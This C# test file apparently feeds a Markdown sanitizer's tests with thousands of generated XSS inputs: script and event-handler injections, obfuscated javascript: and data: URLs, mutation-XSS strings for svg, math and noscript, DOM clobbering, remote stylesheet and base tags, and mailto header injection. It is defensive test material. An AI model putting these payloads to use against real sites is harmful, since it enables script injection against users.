namespace Guildhall.App.Tests.Values;

/// <summary>
/// Hostile Markdown, made by crossing what is dangerous with how it can be spelled and where it can stand, and a list of single tricks.
/// Every one of them is meant to end in script, a foreign request or a changed page if anything along the way believes it.
/// </summary>
internal static class HostilePayloads
{
    private const string Js = "javascript:alert(1)";

    private static readonly string[] Schemes =
    [
        Js, "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg/onload=alert(1)>", "file:///etc/passwd", "blob:https://a.example/1", "view-source:javascript:alert(1)", "jar:javascript:x!", "livescript:x",
        "feed:javascript:alert(1)", "intent://x#Intent;end", "chrome://settings", "ms-word:ofe|u|http://x", "tel:123", "about:blank",
            "ws://a.example", "filesystem:http://x",
    ];

    private static readonly Func<string, string>[] Spellings =
    [
        s => s,
        s => s.ToUpperInvariant(),
        s => string.Concat(s.Select((c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : c)),
        s => " \u0001\u001F" + s,
        s => "\u00A0" + s,
        s => "\u200B" + s,
        s => "\uFEFF" + s,
        s => s.Insert(4, "\t"),
        s => s.Insert(4, "&#9;"),
        s => s.Insert(4, "&Tab;"),
        s => s.Insert(4, "&#x0A;"),
        s => s.Insert(4, "&NewLine;"),
        s => s.Insert(4, "\0"),
        s => s.Insert(4, "&#0;"),
        s => s.Replace(":", "&colon;"),
        s => s.Replace(":", "&#58;"),
        s => s.Replace(":", "&#x3A"),
        s => s.Replace(":", "&#0000000000000058;"),
        s => s.Replace(":", "%3A"),
        s => s.Replace(":", "\uFF1A"),
        s => s.Replace(":", " :"),
        s => s.Replace("s", "\u017F"),
        s => string.Concat(s.Select(c => $"&#{(int)c};")),
        s => string.Concat(s.Select(c => $"&#x{(int)c:x};")),
        s => string.Concat(s.Select(c => $"&#{(int)c:d7}")),
        s => string.Concat(s.Select(c => $"\\{c}")),
        s => "&#1;" + s,
        s => "\\\n" + s,
        s => "./" + "\r" + s,
    ];

    private static readonly Func<string, string>[] LinkPlaces =
    [
        u => $"[x]({u})",
        u => $"[x](<{u}>)",
        u => $"[x]({u} \"t\")",
        u => $"[x][r]\n\n[r]: {u}",
        u => $"[r]\n\n[r]: <{u}> 't'",
        u => $"<{u}>",
        u => $"<a href=\"{u}\">x</a>",
        u => $"<a href={u}>x</a>",
        u => $"<A HREF='{u}'>x</A>",
        u => $"<a\nhref\n=\n\"{u}\"\n>x</a>",
        u => $"![x]({u})",
        u => $"![x][r]\n\n[r]: {u}",
        u => $"<img src=\"{u}\">",
        u => $"<img src=x onerror=\"{u}\">",
        u => $"<div>\n<a href=\"{u}\">x</a>\n</div>",
        u => $"| a |\n|---|\n| [x]({u}) |",
        u => $"> - [x]({u})",
        u => $"note[^1]\n\n[^1]: [x]({u})",
        u => $"# [x]({u})",
        u => $"[![x]({u})]({u})",
    ];

    private static readonly string[] Handlers =
    [
        "onclick", "onerror", "onload", "onmouseover", "onfocus autofocus", "ontoggle", "onanimationstart", "onbeforeinput",
        "onpointerrawupdate", "ONCLICK", "on\u0130clicK", "xmlns:onclick", "formaction",
        "srcdoc", "style", "background", "action", "ping", "poster", "srcset", "xlink:href", "is", "slot", "part", "nonce",
        "contenteditable", "popovertarget", "accesskey", "data-x", "aria-label", "role", "tabindex",
    ];

    private static readonly string[] Carriers =
        ["a href=/x", "img src=/x", "b", "div", "details open", "input type=checkbox", "td", "svg", "math", "pre", "code class=language-x",
            "span class=math", "x-y", "h1", "table"];

    private static readonly string[] Tricks =
    [
        "<script>alert(1)</script>", "<script src=//a.example></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<ScRiPt>alert(1)</sCrIpT >", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
        "<style>*{background:url(javascript:alert(1))}</style>", "<style><img src=x onerror=alert(1)></style>",
        "<link rel=stylesheet href=//a.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=//a.example/>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<form><input type=submit formaction=javascript:alert(1)></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x/>#x'></svg>", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><title><img src=x onerror=alert(1)></title></svg>",
        "<svg><desc><img src=x onerror=alert(1)></desc></svg>", "<svg>\n\n<img src=x onerror=alert(1)>\n\n</svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<math href=javascript:alert(1)>x</math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>", "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
        "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title=\"</textarea><img src='#' onerror='alert(1)'>\">", "<math><style><img src onerror=alert(1)></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<noscript><noscript><img title='</noscript><img src=x onerror=alert(1)>'></noscript></noscript>", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<title><img title='</title><img src=x onerror=alert(1)>'></title>", "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "<plaintext><img src=x onerror=alert(1)>", "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<select><template><img src=x onerror=alert(1)></template></select>", "<frameset onload=alert(1)>", "<body onload=alert(1)>",
        "<html onclick=alert(1)>", "<head><script>alert(1)</script></head>", "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)></video>", "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<picture><source srcset=x onerror=alert(1)><img src=x></picture>", "<image src=x onerror=alert(1)>",
        "<input onfocus=alert(1) autofocus>", "<input type=image src=x onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<dialog open onclose=alert(1)>x</dialog>", "<details open ontoggle=alert(1)>x</details>",
        "<a href=javascript:alert(1)><a href=javascript:alert(2)>x</a></a>",
        "<a href=/x><table><tr><td><a href=javascript:alert(1)>x</a></td></tr></table></a>", "<a id=x name=y href=#z class='btn primary' style=position:fixed>x</a>",
        "<p id=body class=site-header>x</p>", "<img name=cookie src=/x>", "<form id=test><input name=attributes></form>",
        "<a id=defaultView><a id=defaultView name=x href='cid:x'>", "<div id=__proto__>x</div>", "<b id='a b\"><script>'>x</b>",
        "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<!---><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1'?><script>alert(1)</script>", "<?php <img src=x onerror=alert(1)> ?>",
        "<!DOCTYPE html><script>alert(1)</script>", "<!ENTITY x '<script>alert(1)</script>'>", "</script><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</p><script>alert(1)</script>", "</div></div></div><script>alert(1)</script>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img src='/x\" onerror=\"alert(1)'>",
        "<img alt='\"><script>alert(1)</script>' src=/x>", "<img src=/x title='\"onmouseover=alert(1) x=\"'>", "<img/src=/x/onerror=alert(1)>", "<img src=/x\u000Conerror=alert(1)>",
        "<a title=\"`\" href=\"` onclick=alert(1)//\">x</a>", "<<script>alert(1)//<</script>", "<script>\n\nalert(1)\n\n</script>",
        "<div\n\nonclick=alert(1)>x</div>", "<div style='background:url(javascript:alert(1))'>x</div>", "<p style='position:fixed;inset:0'>x</p>",
        "![x](x\"onerror=\"alert(1))", "![x](x 'y\"onerror=\"alert(1)')", "![\"onerror=\"alert(1)](/x)", "[x](/x 'y\" onclick=\"alert(1)')",
        "[<script>alert(1)</script>](/x)", "[x](/x){onclick=alert(1)}", "# x {onclick=alert(1)}", "# x {#x onclick=alert(1)}",
        "```html onclick=alert(1)\nx\n```", "```\"><script>alert(1)</script>\nx\n```", "```{=html}\n<script>alert(1)</script>\n```",
        "``` <img/src/onerror=alert(1)>\nx\n```", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
        "$<script>alert(1)</script>$", "$$\n<img src=x onerror=alert(1)>\n$$", "<span class=math>\\(<img src=x onerror=alert(1)>\\)</span>",
        "$\\href{javascript:alert(1)}{x}$", "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]; click A \"javascript:alert(1)\"\n```",
        "<pre class=mermaid><img src=x onerror=alert(1)></pre>", "<pre class='mermaid evil' onclick=x>x</pre>",
        "[^<script>]\n\n[^<script>]: x", "[^1]: <script>alert(1)</script>\n\nx[^1]", "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
        "- [x] <input type=checkbox onclick=alert(1)>", "http://a.example/\"onclick=alert(1)//",
        "http://a.example/'><script>alert(1)</script>", "www.a.example\"onmouseover=alert(1)", "<http://a.example/\"onclick=\"alert(1)>", "mailto:a@b.example\"onclick=alert(1)",
        "[x](mailto:a@b.example?subject=x%0D%0ABcc:c@d.example)", "[x](/\\a.example)", "[x](\\\\a.example)", "[x](https:a.example)",
            "[x](https:/a.example)", "[x](/%5Ca.example)", "[x](https://a.example\\@b.example)", "[x](http://a.example%00.b.example)",
        "<a href='https://a.example' target=_blank rel=opener>x</a>", "<a href='/x' download ping=//a.example>x</a>",
            "<table background=//a.example><tr><td background=//a.example>x</td></tr></table>", "<q cite=javascript:alert(1)>x</q>", "<bgsound src=javascript:alert(1)>",
        "<div class='table-scroll' tabindex=0 role=button aria-label=x onclick=alert(1)>x</div>", "<span class='task-box evil'>x</span>",
        "<code class='language-x\" onclick=x'>x</code>", "<td class='align-center evil' style='text-align:center;position:fixed'>x</td>",
        "<x-hole><img src=x onerror=alert(1)></x-hole>", "</x-hole><script>alert(1)</script>",
        "<svg></x-hole><script>alert(1)</script></svg>", "<p><p><p><div><p></div><b><i></b></i><table><b><tr><i><td></b>x", "<table><script>alert(1)</script><img src=x onerror=alert(1)></table>",
        "<ul><a href=javascript:alert(1)><li>x</a></ul>", "<b><p><i></b>x</i><script>alert(1)</script>",
        "<details><summary><details><summary><a href=/x>x</a></summary></details></summary></details>", "<ruby><rt><script>alert(1)</script></rt></ruby>",
        "\u2028<script>alert(1)</script>\u2029", "\u0000<script>alert(1)</script>", "<\u0000script>alert(1)</script>",
        "<script\u0000>alert(1)</script>", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>",
    ];

    /// <summary>All of them, some thousands.</summary>
    public static IEnumerable<string> All()
    {
        foreach (var scheme in Schemes)
            foreach (var place in LinkPlaces)
                yield return place(scheme);
        foreach (var spell in Spellings)
            foreach (var place in LinkPlaces)
            {
                yield return place(spell(Js));
                yield return place(spell(Schemes[2]));
            }
        foreach (var handler in Handlers)
            foreach (var carrier in Carriers)
            {
                yield return $"<{carrier} {handler}=\"alert(1)\">x";
                yield return $"<div>\n<{carrier}/{handler}=javascript:alert(1)//>x\n</div>";
            }
        foreach (var trick in Tricks)
        {
            yield return trick;
            yield return $"text {trick} text";
            yield return $"<div>\n{trick}\n</div>";
            yield return $"- > {trick}";
            yield return $"<b><i title='{trick}'>{trick}";
        }
    }
}
